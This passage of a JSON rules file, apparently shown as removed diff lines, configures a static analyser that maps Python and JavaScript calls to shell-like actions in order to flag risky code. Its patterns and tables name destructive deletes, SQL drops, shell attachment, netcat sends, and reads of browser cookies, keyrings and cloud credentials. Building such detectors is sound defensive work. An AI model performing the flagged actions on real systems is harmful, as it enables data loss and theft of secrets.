-\\\\\\\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)","g"],"long_line_separator":["\\\\\\\\[\\\\s\\\\S]|'[^']*(?:'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?<!=)\\\\((\
-?!\\\\))|(?<!\\\\()\\\\)|(?<!>)&(?!>)","g"],"long_line_prefix":["^(?:(?:if|then|elif|else|do|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \\\\t]*(?:\
-\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n]*)(?:\\\\n(?:(?:[\\\\s\\\\S]*?\\\\n)?[ \\\\t]*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\\s\\\\S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\\[ (?:1|\
-true|x) \\\\]|test 1|echo.*)$"],"always_false":["^(?:\\\\/bin\\\\/)?false$"],"deleting_call":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|system)\\\\b"]\
-,"generated_statement":["'\\\\s*((?:drop|truncate|delete|alter|revoke|grant)\\\\s[^']*)'","gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"],"host":\
-["^(?:[a-z][a-z0-9+.-]*:\\\\/\\\\/)?(?:[^/@\\\\s]*@)?(\\\\[[0-9a-f:]+\\\\]|[A-Za-z0-9.-]+)(?::\\\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[!^]\\\\.\\\\\
-]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\\\\*,\\\\.\\\\*\\\\}|\\\\*\\\\.\\\\*|!\\\\(.*\\\\))$"],"making_word":["^(?:create|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"referring\
-_word":["^(?:remote|context|config.*)$"],"name_maker":["^(?:volume|network) create$"],"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obligation"\
-:["(?:needs? to|should|must|has to|have to|(?:is|are) to) be(?: \\\\w+ly)?$"],"list_item":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\\[[ x]\\\\\
-]|step \\\\d{1,3}[:.)-]?)[ \\\\t]+(?:\\\\[[ x]\\\\][ \\\\t]+)?","i"],"heading":["^[ \\\\t]{0,3}#{1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)"],"prom\
-pt":["^[ \\\\t]*\\\\$[ \\\\t]+(?=\\\\S)"],"text_word":["(\`{1,2})([^\`\\\\n]{1,2000}?)\\\\1|(?<![\\\\w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{1,200})'\
-(?!\\\\w)|[^\\\\s\`\\"\\u201c\\u201d,;:()!?\\u2014]+(?:[:!?][^\\\\s\`\\"\\u201c\\u201d,;()!?\\u2014]+)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]+","y"],\
-"code_name":["[\\\\p{L}_][\\\\p{L}\\\\p{N}_]*[?!]?","uy"],"code_number":["0[xX][\\\\da-fA-F_]+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE][+-]?\\\\d\
-+)?","y"],"code_mark":["\\\\.\\\\.\\\\.|[=!]==|<=>|(?:\\\\*\\\\*|<<|>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+*/.%|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuing_mark":\
-["^(?:[.,+*/%&|=<>?:([-]|=>|->|\\\\?\\\\.|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+=|\\\\.\\\\.\\\\.|==|===|::)$"],"continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\\.\\\\.)$"\
-],"escape":["\\\\\\\\(?:x([\\\\da-fA-F]{2})|u([\\\\da-fA-F]{4})|u\\\\{([\\\\da-fA-F]{1,6})\\\\}|([0-7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"prefixed_quo\
-te":["(?<prefix>[rbfuRBFUtT]{0,2})(?<close>'''|\\"\\"\\"|'|\\")","y"],"quoting_q":["(qq|qx|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_percent":[\
-"(%[wWiIqQxr]?)([({[<|!/])","y"],"quoting_none":["(?!)","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]){0,300}\\\\]|\
-[^/\\\\\\\\[\\\\n]){0,300}/[a-z]*","y"],"opening_f_string":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\\{","y"],"opening_dollar":["\\\\{(?=\\\
-\\$)|@\\\\{(?=\\\\[)","y"],"opening_none":["(?!)","y"],"dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{0,40}\\\\]|\\\\{[^}\\\\n]{0,40}\\\\})?","y"\
-],"table_deed":["^(?:drop-table|truncate|delete-all|update-all)$"],"temporary":["^TEMP(?:ORARY)?$"],"no_rows":["\\\\b(?:LIMIT 0|WHERE \\\\(* ?(?:FALSE|0|1 = [02]|0 \
-= 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?:1|true|'?(\\\\w+)'? *= *'?\\\\1'?|1 *< *2|not false)(?: *\\\\)*)$","i"],"client_comm\
-and":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\\w*[ \\\\t]*(?:\\\\|[ \\\\t]*(?<piped>.*)|(?:.{0,4000}?\\\\b(?:program|PROGRAM)[ \\\\t]+'\
-(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\\\\n]*|/\\\\*!\\\\d*|/\\\\*[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\*/|(?<quote>['\\"\\\\x60])(?<quoted>(?:\
-(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?|\\\\$(?<tag>\\\\w*)\\\\$(?<text>[\\\\s\\\\S]*?)(?:\\\\$\\\\k<tag>\\\\$|$)|(?<word>[\\\\p{L}_@#$]\
-[\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(?:each)?[\\\\s(]{0,20}(?:await[\\\\s(]{1,9})?(?:(?:const|let|var|my)\\\\s{1,9})?\\\\(?(\
-[\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\\\\s*(\\\\w[\\\\w, ]*)\\\\||\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\blambda\\\\s+(\\\\w+)","g"],"test_clause\
-":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,300})","g"],"tested_ending":["[\\"']\\\\.([\\\\w.]{1,12})[\\"']|\\\\\\\\\\\\.(?:\\\\(\\\\??:?)?([\
-\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\"']([\\\\w.-]+)[\\"']","g"],"known_command":["^(?![\\\\s\\\\S]*(?:^|[;&|\\\\n(\`{!]\\\\s*|\\\
-\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\w=\\\\S*\\\\s+)['\\"]?\\\\u{FFFC})\\\\s*[\\\\w./-]","u"],"deletes":["^\\\\s*(?:sudo\\\\s+)?(?:\
-rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"class_name":["^[A-Z]\\\\w*$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\w+)(?:\\\\\
-.bake)?$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"static_method":["^(?:self|this|[A-Z]\\\\w*)\\\\.(\\\\w+)$"],"true_or_false":["^(?:True|False|true|false)\
-$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?[\\\\w.-]+)$","su"],"uses_arguments":["arg|shift|\\\\$[1-9*@]","i"],"uses_environment":["env","i"]\
-,"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|read\\\\(|argf|ARGV|\\\\$\\\\d|getline|print","i"]},"texts":{"XML or HTML":["^\\\\s*<(!doctype|\\\\?xml|[a\
--z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\||[-*] \\\\S)|\\\\n\`\`\`"],"a log":["^\\\\s*(\\\\[?\\\\d{4}-\\\\d\\\\d-\\\\d\\\\d[T ]|Traceback \\\\(most recent|\\\\w\
-*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\\u2019]*[, ]\\\\s*\\\\p{L}[^\\\\n]*[.!?:)](\\\\s|$)","u"]}},"languages":{"languages":{"python":{"lexer\
-":{"comment":["#"],"sigils":"","interpolation":"f_string","triple":true,"single_escapes":true,"quoting":"none","patterns":false,"lines":"indent"},"program":"pyt\
-hon3","blocks":"indent","member_operators":["."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["def"],"inputs":{"sys.argv":"argv","os.env\
-iron":"environment","sys.stdin":"lines"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobotocore.","aioboto3.","google.cloud.","googleapiclient.","\
-firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","oci.","openstack.","libcloud.","stripe.","github.Github",\
-"gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pinecone.","qdrant_client.","weaviate.","pymilvus.","algolia\
-search.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","twilio.","sendgrid.","supabase.","appwrite.","contentful\
-_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmoxer.","vercel.","netlify.","tencentcloud.","aliyunsdk","\
-alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira.","atlassian.","notion_client.","asana.","replicate.","\
-pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.","etcd3.","kazoo.","asyncssh.","pysftp.","smbclient.","dropbox.","cloudinary.","mailchimp_marketin\
-g.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk.","msgraph.","exchangelib.","simple_salesforce.","hubspot."],"texts":{"stat.S_ISUID":"u+s","stat\
-.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.curdir":".","os.pardir":"..","__file__":"./program.py","string.ascii_lowercase":"abcdefghijklmnopqrs\
-tuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os.system","io.open":"open","codecs.open":"open","Path":"pathlib.Path","subprocess.os.system":"os.s\
-ystem","urllib2.urlopen":"urllib.request.urlopen","urllib.urlopen":"urllib.request.urlopen","urllib.urlretrieve":"urllib.request.urlretrieve","pd.read_csv":"pan\
-das.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\.__dict__|\\\\.__call__$",""],["^Path(?=\\\\.)","pathlib.P\
-ath"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\\.(?=os\\\\.|open$)",""],["^aioshutil\\\\.","shutil."],["^\
-(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathlib.Path"]],"functions":{"print":"print","sys.stdout.write":"print text","input":"input","raw_input\
-":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:path","os.unlink":"run rm $0:path","pathlib.Path.unlink":"run rm $0:path","os.rmdir":"run rmdir $\
-0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs":"run rmdir -p $0:name","shutil.rmtree":"run rm -rf $0:path","send2trash.send2trash":"run rm -rf\
- $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0:src $1:dst","os.replace":"run mv $0:src $1:dst","os.renames":"run mv $0:src $1:dst","shutil.move\
-":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","shutil.copy2":"run cp $0:src $1:dst","shutil.copyfile":"run cp $0:src $1:dst","shutil.copytree":"\
-run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":"run ln -s $0 $1","os.truncate":"run truncate -s 0 $0","os.mkfifo":"run mkfifo $0","os.mknod":"ru\
-n mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run chown $1:uid:user $0:path","os.lchown":"run chown $1:uid:user $0:path","shutil.chown":"run chown \
-$1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.NamedTemporaryFile":"made written /tmp/temporary","os.system":"shell $0:command:cmd","os.popen":"she\
-ll $0:command:cmd","commands.getoutput":"shell $0:command:cmd","asyncio.create_subprocess_shell":"shell $0:command:cmd","asyncio.create_subprocess_exec":"progra\
-m $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spawn":"shell $0:args:command:cmd $:input:stdin","pexpect.run":"shell $0:args:command:cmd $:input:st\
-din","subprocess.run":"shell $0:args:command:cmd $:input:stdin","subprocess.call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_call":"shell $0:ar\
-gs:command:cmd $:input:stdin","subprocess.check_output":"shell $0:args:command:cmd $:input:stdin","subprocess.Popen":"shell $0:args:command:cmd $:input:stdin","\
-subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin","subprocess.getstatusoutput":"shell $0:args:command:cmd $:input:stdin","os.execl":"execute $0 $1\
-..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1..","os.execlpe":"execute $0 $1..","os.execv":"execute $0 $1..","os.execvp":"execute $0 $1..","os.ex\
-ecve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posix_spawn":"execute $0 $1..","os.spawnl":"execute $1 $2..","os.spawnlp":"execute $1 $2..","os.spawn\
-le":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawnv":"execute $1 $2..","os.spawnvp":"execute $1 $2..","os.spawnve":"execute $1 $2..","os.spawnvpe":\
-"execute $1 $2..","sh.Command":"made program","os.dup2":"attach-shell /bin/sh | value","os.kill":"kill $0 $1","os.killpg":"kill $0 $1 group","psutil.Process":"m\
-ade psutil.Process","psutil.process_iter":"entries any-process","psutil.pids":"entries","os.listdir":"names $0","os.fork":"if-sign:repeats run fork","os.setuid"\
-:"run setuid $last","os.seteuid":"run setuid $last","os.setresuid":"run setuid $last","os.setgid":"run setgid $last","os.chroot":"run chroot $0","ctypes.CDLL":"\
-made library","exec":"eval $0","eval":"eval $0","fileinput.input":"if-no-sign:writes if-option:inplace=True run truncate -s 0 $0:files | read $0","execfile":"re\
-ad $0","linecache.getlines":"read $0","numpy.loadtxt":"read $0","pandas.read_csv":"read $0","pandas.read_json":"read $0","dotenv.dotenv_values":"read $0","impor\
-tlib.util.spec_from_file_location":"run python3 $1","runpy.run_path":"run python3 $0","pickle.load":"load $0","pickle.loads":"load $0","dill.load":"load $0","di\
-ll.loads":"load $0","joblib.load":"load $0","torch.load":"load $0","marshal.loads":"load $0","zipfile.ZipFile":"open $0:file:name $1:mode","tarfile.open":"open \
-$0:file:name $1:mode","gzip.open":"open $0:file:name $1:mode","bz2.open":"open $0:file:name $1:mode","lzma.open":"open $0:file:name $1:mode","shelve.open":"made\
- store $0","dbm.open":"made store $0","lmdb.open":"made store $0","plyvel.DB":"made store $0","diskcache.Cache":"made store $0","h5py.File":"made store $0","zar\
-r.open":"made store $0","zarr.open_group":"made store $0","tinydb.TinyDB":"made store $0","twine.commands.upload.main":"run twine upload x","twine.commands.uplo\
-ad.upload":"run twine upload x","configparser.ConfigParser":"made config","configparser.RawConfigParser":"made config","sqlalchemy.update":"made whole-update","\
-sqlalchemy.sql.update":"made whole-update","crontab.CronTab":"if-option:tab if-no-sign:installs-cron made mock | made crontab","secretstorage.get_default_collec\
-tion":"run secret-tool lookup x","secretstorage.get_all_collections":"run secret-tool lookup x","secretstorage.search_items":"run secret-tool lookup x","browser\
-_cookie3.chrome":"run secret-tool lookup x","browser_cookie3.firefox":"run secret-tool lookup x","browser_cookie3.edge":"run secret-tool lookup x","browser_cook\
-ie3.load":"run secret-tool lookup x","dulwich.porcelain.push":"if-option:force=True run git push --force","dulwich.porcelain.reset":"if-says:hard$|Hard$|HARD$ r\
-un git reset --hard","git_filter_repo.RepoFilter":"run git filter-repo --force","git.Head.delete":"if-option:force=True run git branch -D","psycopg.sql.SQL":"va\
-lue $0","psycopg2.sql.SQL":"value $0","sql.SQL":"value $0","asyncio.wait_for":"value $0","vars":"value $0","os.path.expanduser":"value $0","text":"value $0","sq\
-lalchemy.text":"value $0","staticmethod":"value $0","classmethod":"value $0","asyncio.gather":"value $0..","__import__":"module $0","importlib.import_module":"m\
-odule $0","getattr":"attribute $0 $1","enumerate":"numbered $0","dotenv.set_key":"write $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip":"rows",\
-"itertools.zip_longest":"rows","itertools.chain":"flat","itertools.chain.from_iterable":"flat $0","operator.attrgetter":"value","globals":"name builtins","funct\
-ools.partial":"made bound $0 $1..","git.Repo":"made git $0","git.repo.Repo":"made git $0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git $0","pyg\
-it2.Repository":"made git $0","pygit2.init_repository":"made git $0","unittest.mock.MagicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mock":"moc\
-k","unittest.mock.NonCallableMock":"mock","unittest.mock.create_autospec":"mock","unittest.mock.mock_open":"mock","OSError":"made error","IOError":"made error",\
-"FileNotFoundError":"made error","PermissionError":"made error","RuntimeError":"made error","ValueError":"made error","KeyError":"made error","TypeError":"made \
-error","TimeoutError":"made error","ConnectionError":"made error","Exception":"made error","subprocess.CalledProcessError":"made error","subprocess.TimeoutExpir\
-ed":"made error","unittest.mock.patch":"patcher $0:target $1:new","unittest.mock.patch.object":"patcher $0:target $1:attribute $2:new","setattr":"imitate $0 $1 \
-$2","pytest.MonkeyPatch":"made monkeypatch","moto.mock_aws":"if-no-sign:keeps-real if-no-sign:other-imports patcher services","botocore.stub.Stubber":"if-no-sig\
-n:keeps-real if-no-sign:other-imports if-no-sign:several-clients patcher services","responses.activate":"if-no-sign:keeps-real if-no-sign:other-requests patcher\
- requests","responses.RequestsMock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-no-sign:\
-other-requests patcher requests","requests_mock.mock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","respx.mock":"if-no-sign:keeps-real if-\
-no-sign:besides-httpx patcher requests","pyfakefs.fake_filesystem_unittest.Patcher":"if-no-sign:keeps-real if-no-sign:other-files patcher files","fsspec.filesys\
-tem":"if-says:^memory$ made mock","operator.methodcaller":"made message $0 $1..","string.Template":"made template $0","email.message.EmailMessage":"made mail","\
-email.mime.text.MIMEText":"made mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_password":"secret","keyring.get_credential":"secret","netrc.\
-netrc":"secret","dict":"from-pairs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTransport":"made mock","chromadb.EphemeralClient":"made mock","sq\
-lalchemy.create_mock_engine":"made mock","duckdb.connect":"if-none made database :memory: | made database $0:database","shlex.split":"split $0","json.loads":"pa\
-rse-json $0","tempfile.mktemp":"value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryDirectory":"new-folder","sqlalchemy.delete":"made whole","\
-sqlalchemy.sql.delete":"made whole","sqlalchemy.sql.expression.delete":"made whole","alembic.command.downgrade":"run alembic downgrade $1:revision","invoke.run"\
-:"shell $0","os.path.join":"join $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","pathlib.Path.home":"value ~","pathlib.Path.cwd":"value .","os\
-.getcwd":"value .","os.getenv":"environment $0 $1:default","os.environ.get":"environment $0 $1:default","os.environ.copy":"environment $0 $1:default","os.path.d\
-irname":"dirname $0","tempfile.mkstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","glob.glob":"glob $0","glob.iglob":"glob $0","codecs.decod\
-e":"decode $0 $1","shutil.make_archive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connect $all","sqlite3.connect":"made database $0","socket.sock\
-et":"made socket","socket.gethostbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dns.resolver.query":"run nslookup $0","smtplib.SMTP":"made \
-connection","smtplib.SMTP_SSL":"made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made connection","httpx.Client":"made rest $:base_url","httpx.\
-AsyncClient":"made rest $:base_url","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitepackages":"value ~/.local/lib/python3/site-packages","para\
-miko.Transport":"made ssh","paramiko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.SerialGroup":"made ssh","fabric.ThreadingGroup":"made ssh","in\
-voke.Context":"made ssh","http.client.HTTPSConnection":"made http","http.client.HTTPConnection":"made http","urllib.request.urlopen":"request GET $0:url $1:data\
-","urllib.request.Request":"if-option:method open-request $:method $0:url $1:data | made request $0:url $1:data","urllib.request.urlretrieve":"run curl -o $1 $0\
-","requests.request":"request $0 $1:url $:data $:json $:files $:content","requests.get":"request GET $0:url $:data $:json $:files $:content $:params","httpx.get\
-":"request GET $0:url $:data $:json $:files $:content $:params","requests.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","httpx.post":"\
-request POST $0:url $1 $:data $:json $:files $:content $:params","requests.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","httpx.put":"re\
-quest PUT $0:url $1 $:data $:json $:files $:content $:params","requests.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","httpx.patch":\
-"request PATCH $0:url $1 $:data $:json $:files $:content $:params","requests.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","httpx.\
-delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","requests.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","h\
-ttpx.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","requests.Session":"name requests","requests.session":"name requests","aiohttp.Clie\
-ntSession":"name requests","winreg.DeleteKey":"run reg delete $1","django.core.management.call_command":"run django-admin $0","call_command":"run django-admin $\
-0","numpy.save":"write $1","torch.save":"write $1","joblib.dump":"write $1"},"methods":{"splitlines":"if-text split $self \\n","reset":"if-made:git if-says:hard$\
-|Hard$|HARD$ run git reset --hard | if-git if-option:working_tree=True run git reset --hard","to_sql":"if-kept if-sign:database-address if-option:if_exists=repl\
-ace run sql drop-table $0","push":"if-option:dry_run value | if-option:force=True if-git run git push --force origin | if-option:force=True if-owner:^(origin|re\
-motes|remote)\\\\b|\\\\.remotes?\\\\b run git push --force origin | if-option:refspec run git push origin $:refspec","remove_volume":"run docker volume rm $0","prune_\
-volumes":"run docker volume prune -af","delete_head":"if-git if-option:force=True run git branch -D","remote":"if-git value $self","delete_tag":"if-git run git \
-tag -d","checkout_head":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout_index":"if-git if-arg:list run g\
-it checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git\
- checkout -f","put":"if-made:sftp run scp -r $0 host:/x","new":"if-made:crontab run crontab -","write":"if-made:crontab run crontab - | send $self $0","write_to\
-_user":"if-made:crontab run crontab -","unlink":"if-made:library run rm $0 | if-gets:keys run sql flush FLUSHDB | if-made:sftp run cloud-sdk delete | run rm $se\
-lf","remove":"if-made:library run rm $0 | if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if-made:library run rm \
-$0 | if-made:sftp run cloud-sdk delete | run rmdir $self","add":"if-made:written read $0 | if-list append $self $all","get_frozen_credentials":"run aws configur\
-e export-credentials","PowerOff":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-name:objects made some-rows","exclude":"if\
--name:objects made some-rows","delete":"if-made:some-rows run sql delete-some rows | if-gets:keys run sql flush FLUSHDB | if-made:connection run cloud-sdk delet\
-e | if-made:rest request-over DELETE $0 | if-git if-owner:^(references|branches|local|heads|tags)$ run git update-ref -d refs/heads/x","update":"if-made:some-ro\
-ws run sql delete-some rows | if-name:objects run sql update-all rows | if-made:rows run sql update-all rows | if-list append $self $all","rmd":"if-made:connect\
-ion run cloud-sdk delete","open_sftp":"if-made:ssh made sftp","rm":"if-option:recursive=True run cloud-sdk delete","run":"if-made:ssh shell $0 | if-name:contain\
-ers docker-run | sql $0:query:sql","sudo":"if-made:ssh shell $0","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries \
-keys","rmtree":"run rm -rf $self","read_text":"read $self","read_bytes":"read $self","write_text":"write $self $0:data","write_bytes":"write $self $0:data","chm\
-od":"chmod $self $0:mode","walk":"if-text walk $self","read":"if-made:config read $0 | lines $self","set_content":"if-made:mail transfer sendmail $0 x","attach"\
-:"if-made:mail transfer sendmail $0 x","add_attachment":"if-made:mail transfer sendmail $0 x","substitute":"if-made:template format $origin","safe_substitute":"\
-if-made:template format $origin","values":"if-made:whole-update value $self | if-map values $self","execution_options":"if-made:whole-update value $self","appen\
-d":"if-list append $self $all","appendleft":"if-list append $self $all","extend":"if-list append $self $all","insert":"if-list append $self $all","create":"if-n\
-ame:containers docker-run","touch":"if-text run touch $self","rename":"if-text run mv $self $0","replace":"if-text if-args:2 replace $self $0 $1 | if-text if-ar\
-gs:1 run mv $self $0","symlink_to":"run ln -s $0 $self","open":"if-text open $self $0:mode","writelines":"send $self $0","send":"send $self $0","sendall":"send \
-$self $0","sendfile":"send $self $0","readlines":"value $self","communicate":"value $self","expanduser":"value $self","resolve":"value $self","absolute":"value \
-$self","as_posix":"value $self","readline":"any-of $self","text":"value $0","glob":"glob $self $0","rglob":"glob $self ** $0","iterdir":"folder $self","connect"\
-:"if-made connect $all","connect_ex":"connect $all","sendto":"transfer nc $0 $1","sendmail":"if-made transfer sendmail $2 $self","send_message":"if-made transfe\
-r sendmail $0 $self","storbinary":"if-made transfer ftp $1 $self","request":"request-over $0 $1 $2 $:body $:data $:json","exec_command":"shell $0","system":"if-\
-made:library shell $0","kill":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -KILL $:pid | if-made:psutil.Process run kill -KILL $ori\
-gin","terminate":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -TERM $:pid | if-made:psutil.Process run kill -TERM $origin","execute\
-":"if-made:pending-delete run sql delete-all rows | sql $0:query:sql","write_database":"if-kept if-sign:database-address if-option:if_table_exists=replace run s\
-ql drop-table $0","sql":"sql $0:query:sql","executescript":"sql $0:query:sql","executemany":"sql $0:query:sql","execute_query":"sql $0:query:sql","command":"sql\
- $0:query:sql","execute_sql":"sql $0:query:sql","execute_async":"sql $0:query:sql","cursor":"if-made:database value $self","get":"entry $self $0 $1","items":"if\
--map pairs $self","add_argument":"declare-option $:default","start":"start-patcher","__enter__":"start-patcher","setattr":"if-made:monkeypatch imitate $0 $1 $2"\
-,"parse_args":"options","parse_known_args":"options","list":"if-name:volumes entries docker-volume","prune":"if-name:volumes run docker volume prune -af"}},"jav\
-ascript":{"lexer":{"comment":["//"],"block_comment":["/*","*/"],"sigils":"$#","interpolation":"template","triple":false,"single_escapes":true,"quoting":"none","\
-patterns":true,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_\
-keywords":["function"],"inputs":{"process.argv":"node-argv","Bun.argv":"node-argv","Deno.args":"args","process.env":"environment","Bun.env":"environment","proce\
-ss.stdin":"text"},"unknown":["process.pid"],"sdks":["aws-sdk.","aws-sdk/","@aws-sdk/","@google-cloud/","googleapis","firebase-admin","@azure/","@kubernetes/","s\
-tripe","@octokit/","octokit","@slack/","@gitbeaker/","heroku-client","cloudflare","@vercel/","@netlify/","netlify","@elastic/","@opensearch-project/","minio","@\
